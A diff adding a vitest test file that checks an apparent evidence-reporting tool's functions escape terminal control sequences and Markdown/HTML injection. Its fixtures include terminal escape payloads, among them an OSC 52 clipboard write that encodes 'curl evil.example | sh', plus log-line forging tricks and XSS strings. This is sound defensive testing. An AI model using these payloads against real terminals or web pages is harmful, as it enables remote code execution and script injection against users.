@@ -1,0 +1,145 @@
+// Issue 12: evidence strings are neutralised before a terminal or a Markdown file sees them.
+import { marked } from 'marked';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import {
+  escapeControl, hasUnsafeControls, markdownCode, markdownCodeBlock, markdownInline, neutralizeLine, neutralizeText,
+} from '../../src/core/text/neutralize.ts';
+
+const ESC = '\u001b';
+/** Hostile strings as they reach evidex inside container names, log lines, file names, header values. */
+const HOSTILE: Record<string, string> = {
+  'SGR colour': `${ESC}[31mred${ESC}[0m`,
+  'screen clear + home': `${ESC}[2J${ESC}[Hfake prompt $ `,
+  'OSC 8 hyperlink': `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`,
+  'OSC 52 clipboard write': `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`,
+  'window title (OSC 0 / BEL)': `${ESC}]0;pwned\u0007`,
+  'C1 CSI (U+009B)': '\u009b31mred',
+  'C1 OSC (U+009D) + ST (U+009C)': '\u009d0;title\u009c',
+  'carriage return overwrite': 'ok: 0 findings\rP0 hidden',
+  'backspace erase': 'secret\b\b\b\b\b\bpublic',
+  'forged line': 'quantum_backend\nP0 forged finding line',
+  'bidi override': 'abc\u202etxt.exe',
+  'NUL and DEL': 'a\u0000b\u007fc',
+  'DCS': `${ESC}P1$r0m${ESC}\\`,
+};
+
+/** What a terminal would act on: ESC, C1, BEL, CR, BS, NUL, DEL, bidi controls. */
+const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
+
+describe('neutralizeLine', () => {
+  for (const [name, s] of Object.entries(HOSTILE)) {
+    it(`${name}: nothing active and no newline survives, and the escape is visible`, () => {
+      const out = neutralizeLine(s);
+      expect(out).not.toMatch(ACTIVE);
+      expect(out).not.toContain('\n');
+      expect(out).not.toBe(s);
+      expect(out).toMatch(/\\(?:x[0-9a-f]{2}|u[0-9a-f]{4}|[nrbt])/);
+    });
+  }
+
+  it('shows the exact escapes', () => {
+    expect(neutralizeLine(`${ESC}[31mred`)).toBe('\\x1b[31mred');
+    expect(neutralizeLine('a\nb\tc\rd\be')).toBe('a\\nb\\tc\\rd\\be');
+    expect(neutralizeLine('\u009b2J')).toBe('\\u009b2J');
+    expect(neutralizeLine('x\u202ey')).toBe('x\\u202ey');
+    expect(neutralizeLine('\u0000\u007f')).toBe('\\x00\\x7f');
+    expect(escapeControl('\u0007')).toBe('\\x07');
+  });
+
+  it('returns ordinary strings unchanged, including non-ASCII text', () => {
+    for (const s of ['quantum_backend', 'Größe 5 GiB — ok', '日本語のログ', 'emoji 🚀 ok', 'C:\\Users\\x', '']) {
+      expect(neutralizeLine(s)).toBe(s);
+    }
+  });
+});
+
+describe('neutralizeText', () => {
+  it('keeps LF and TAB, turns CRLF into LF, escapes a lone CR and every sequence', () => {
+    expect(neutralizeText('a\tb\r\nc\n')).toBe('a\tb\nc\n');
+    expect(neutralizeText('progress 10%\rprogress 100%\n')).toBe('progress 10%\\rprogress 100%\n');
+    for (const s of Object.values(HOSTILE)) {
+      const out = neutralizeText(s);
+      expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
+    }
+  });
+
+  it('hasUnsafeControls tells which strings need it', () => {
+    expect(hasUnsafeControls('plain\nlines\t')).toBe(false);
+    expect(hasUnsafeControls(`x${ESC}[0m`)).toBe(true);
+    expect(hasUnsafeControls('a\rb')).toBe(true);
+  });
+
+  it('property: no output ever holds an active character, and LF count is kept', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (s) => {
+        const out = neutralizeText(s);
+        expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
+        expect(out.split('\n').length).toBe(s.split('\n').length);
+        expect(neutralizeLine(s)).not.toMatch(/[\n\r\t]/);
+      }),
+    );
+  });
+});
+
+describe('Markdown', () => {
+  /** Render Markdown the way the report pages do (marked, GFM on). */
+  const html = (md: string): string => marked.parse(md, { async: false, gfm: true });
+
+  const MD_HOSTILE = [
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '[click](javascript:alert(1))',
+    '![x](https://evil.example/track.png)',
+    '**bold** _em_ ~~strike~~ `code`',
+    'a | b | c',
+    '# heading',
+    '- list item',
+    '1. ordered',
+    '> quote',
+    'https://evil.example/autolink and www.evil.example',
+    '&lt;script&gt; entity',
+    'name\n# forged heading\n<script>x</script>',
+    `${ESC}]8;;https://evil.example${ESC}\\link`,
+  ];
+
+  it('markdownInline: renders as the literal text, with no link, image, tag, emphasis, heading or list', () => {
+    for (const s of MD_HOSTILE) {
+      const out = html(`cell: ${markdownInline(s)}`);
+      expect(out, s).not.toMatch(/<(?:a|img|script|em|strong|del|code|h\d|li|blockquote|table)\b/);
+      expect(out).toMatch(/^<p>cell: /);
+      expect(out.trim().split('\n')).toHaveLength(1);
+    }
+    // At the very start of a line, too.
+    for (const s of ['# heading', '- item', '+ item', '1. item', '2) item', '=== ', '> q']) {
+      expect(html(markdownInline(s)), s).toMatch(/^<p>/);
+    }
+    // A table cell cannot be split.
+    const table = html(`| a | b |\n| - | - |\n| ${markdownInline('x | y')} | z |\n`);
+    expect(table.match(/<td>/g)).toHaveLength(2);
+  });
+
+  it('markdownInline keeps ordinary names readable', () => {
+    expect(markdownInline('quantum_backend')).toBe('quantum\\_backend');
+    expect(html(markdownInline('quantum_backend'))).toBe('<p>quantum_backend</p>\n');
+    expect(html(markdownInline('redis:7.2-alpine'))).toBe('<p>redis:7.2-alpine</p>\n');
+  });
+
+  it('markdownCode: one code span holding the literal value, whatever backticks it holds', () => {
+    for (const s of ['plain', 'a`b', '``x``', '`start', 'end`', ' spaced ', 'x\ny', `${ESC}[31m`]) {
+      const out = html(markdownCode(s));
+      expect(out.match(/<code>/g), s).toHaveLength(1);
+      const inner = /<code>([\s\S]*)<\/code>/.exec(out)?.[1] ?? '';
+      const decoded = inner.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, '&');
+      expect(decoded).toBe(neutralizeLine(s));
+    }
+  });
+
+  it('markdownCodeBlock: no line of the excerpt can close the block', () => {
+    const excerpt = 'line 1\n```\n# not a heading\n````\n<script>x</script>\n\u001b[2J';
+    const out = html(markdownCodeBlock(excerpt, 'text'));
+    expect(out.match(/<pre>/g)).toHaveLength(1);
+    expect(out).not.toMatch(/<h1|<script/);
+    expect(out).toContain('\\x1b[2J');
+  });
+});
